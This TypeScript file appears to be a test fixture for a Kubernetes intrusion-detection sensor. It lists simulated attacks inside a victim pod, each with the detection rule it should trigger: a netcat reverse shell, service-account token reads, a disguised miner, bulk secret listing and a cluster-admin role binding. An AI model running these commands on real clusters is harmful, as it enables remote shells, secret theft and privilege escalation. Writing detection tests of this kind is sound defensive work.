// Attacks on a pod and out of it, each with the rule that has to see it and where it has to place it.
import type { Cluster, KubeObject } from '../cluster/index.ts';
import { container, inVictim } from './victim.ts';

export interface Attack {
  readonly rule: string;
  readonly run: (cluster: Cluster) => Promise<unknown>;
  readonly place: { readonly pod: RegExp; readonly workload: string };
  /** Of the sensor: node and container are known, too. */
  readonly isOnNode?: true;
}

const atVictim = { pod: /^web-/, workload: 'web' };

/** What fails in the pod has been seen all the same. */
const inPod = (rule: string, ...command: readonly string[]): Attack => ({
  ...{ rule, place: atVictim, isOnNode: true },
  run: (cluster) => inVictim(cluster, ...command).catch(() => undefined),
});

/** With the token of the pod, as whoever is in it would. */
const byPod = (rule: string, ...args: readonly string[]): Attack => ({
  ...{ rule, place: atVictim },
  run: (cluster) => inVictim(cluster, '/usr/bin/kubectl', '--cache-dir=/tmp', ...args),
});

const mighty: KubeObject = {
  ...{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'mighty', namespace: 'shop' } },
  spec: {
    terminationGracePeriodSeconds: 0,
    containers: [{ ...container, securityContext: { privileged: true } }],
  },
};

export const attacks: readonly Attack[] = [
  inPod('reverse-shell', '/bin/nc', '127.0.0.1', '9', '-e', '/bin/sh'),
  inPod('drift', '/bin/sh', '-c', 'cp /bin/busybox /tmp/busybox && /tmp/busybox true'),
  inPod('service-account-token-read', '/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
  inPod(
    'crypto-miner',
    ...['/bin/sh', '-c', 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://127.0.0.1:3333'],
  ),
  {
    rule: 'exec-into-pod',
    run: (cluster) => inVictim(cluster, '/bin/true'),
    place: atVictim,
  },
  {
    rule: 'privileged-container',
    run: (cluster) => cluster.apply([mighty]),
    place: { pod: /^mighty$/, workload: 'mighty' },
  },
  byPod('secrets-read-in-bulk', 'get', 'secrets', '--all-namespaces'),
  byPod(
    'cluster-admin-binding',
    ...['create', 'clusterrolebinding', 'own', '--clusterrole=cluster-admin', '--serviceaccount=shop:web'],
  ),
];
